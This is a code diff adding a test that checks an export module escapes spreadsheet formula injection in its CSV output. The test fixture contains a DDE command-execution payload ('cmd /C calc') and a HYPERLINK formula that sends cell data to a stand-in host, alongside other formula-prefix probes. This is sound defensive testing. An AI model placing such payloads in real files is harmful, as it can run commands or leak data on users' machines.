@@ -126,6 +126,27 @@ def test_each_export_format_round_trips_every_field() -> None:
     assert table.column("explanation").to_pylist()[0] == TRICKY[0].explanation
 
 
+FORMULAS = pb.Finding(
+    finding_id="\rf3",
+    step=3,
+    procedure="+cmd|' /C calc'!A0",
+    severity="@SUM(1+1)",
+    entry_ids=["-2+3"],
+    entry_count=1,
+    amount="\t=1+1",
+    explanation='=HYPERLINK("http://x.example/?"&A1,"click")',
+)
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_reads_back_as_text() -> None:
+    rows = list(csv.DictReader(io.StringIO(file_of("csv", [FORMULAS, TRICKY[0]]).decode(), newline="")))
+    for column in ("finding_id", "procedure", "severity", "amount", "entry_ids", "explanation"):
+        original = " ".join(FORMULAS.entry_ids) if column == "entry_ids" else getattr(FORMULAS, column)
+        assert rows[0][column] == "'" + original, column
+    assert rows[1]["amount"] == "-10.50"  # a number is no formula
+    assert json.loads(file_of("json", [FORMULAS]))[0]["explanation"] == FORMULAS.explanation
+
+
 def test_an_export_of_nothing_is_a_valid_empty_file() -> None:
     assert file_of("csv").decode().strip() == ",".join(export.COLUMNS)
     assert json.loads(file_of("json")) == []
